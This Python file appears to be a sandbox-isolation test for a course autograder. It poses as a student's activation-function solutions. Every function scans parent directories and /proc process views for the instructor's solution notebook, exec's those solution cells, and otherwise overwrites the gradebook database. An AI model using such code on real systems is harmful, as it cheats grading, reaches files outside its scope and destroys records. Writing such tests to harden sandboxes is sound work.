# Tries to read the instructor's solutions (source/), the reference bank and other students'
# work, and to write the gradebook. In the sandbox none of it is there.
import glob
import json
import os

import numpy as np

EXPECTED_REASONS = {"test_sigmoid": "found nothing to copy"}


def _course_files(pattern):
    """Look for `pattern` in every folder above this one and through every process's view."""
    here, found = os.path.abspath("."), []
    while True:
        found += glob.glob(os.path.join(here, pattern))
        if here == os.path.dirname(here):
            break
        here = os.path.dirname(here)
    for proc in glob.glob("/proc/[0-9]*"):
        found += glob.glob(os.path.join(proc, "cwd", pattern)) + glob.glob(os.path.join(proc, "root", "tmp", "*", pattern))
    return found


def _steal(name):
    for path in _course_files("source/activations/activations.ipynb"):
        namespace = {"np": np}
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]), namespace)
        return namespace[name]
    for path in _course_files("gradebook.db"):
        with open(path, "r+b") as db:
            db.write(b"corrupted by a student")
    raise RuntimeError("found nothing to copy")


def sigmoid(x):
    return _steal("sigmoid")(x)


def sigmoid_grad(x):
    return _steal("sigmoid_grad")(x)


def softmax(x, axis=-1):
    return _steal("softmax")(x, axis)


def log_softmax(x, axis=-1):
    return _steal("log_softmax")(x, axis)
